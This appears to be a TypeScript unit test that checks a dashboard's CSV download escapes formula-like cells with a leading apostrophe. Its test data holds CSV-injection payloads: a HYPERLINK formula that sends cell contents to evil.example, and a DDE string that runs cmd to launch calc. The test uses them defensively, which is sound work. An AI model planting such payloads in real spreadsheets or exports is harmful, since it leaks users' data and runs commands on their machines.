/**
 * The dashboard's CSV download (issue 24): a cell that a spreadsheet would run as a formula
 * (starting with = + - @, a tab or a carriage return) is written as text with a leading
 * apostrophe, as the API's export does; numbers, negative ones included, stay numbers.
 */
import { expect, test } from "vitest";
import { type Column, csvFrom } from "./data-table.js";

interface Row {
  name: string;
  share: number;
}

const columns: Column<Row>[] = [
  { header: "Name", cell: (r) => r.name },
  { header: "Share", cell: (r) => `${r.share * 100} %`, csv: (r) => r.share },
];

test("formula-like cells are neutralised the way the API's CSV export neutralises them", () => {
  // Each cell as the API's export writes it (src/api/adversarial.test.ts checks the first there).
  const hostile: [string, string][] = [
    [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
    ],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", `"'\r=1+1"`],
  ];
  const rows = [
    ...hostile.map(([name]) => ({ name, share: -0.25 })),
    { name: "Gécamines", share: 0.2 },
  ];
  const lines = csvFrom(columns, rows).split("\r\n");
  expect(lines[0]).toBe("Name,Share");
  for (const [i, [, cell]] of hostile.entries()) expect(lines[i + 1]).toBe(`${cell},-0.25`);
  expect(lines[hostile.length + 1]).toBe("Gécamines,0.2");
  // Plain numbers in text columns are not touched.
  expect(csvFrom(columns, [{ name: "-0.5", share: 1 }]).split("\r\n")[1]).toBe("-0.5,1");
});
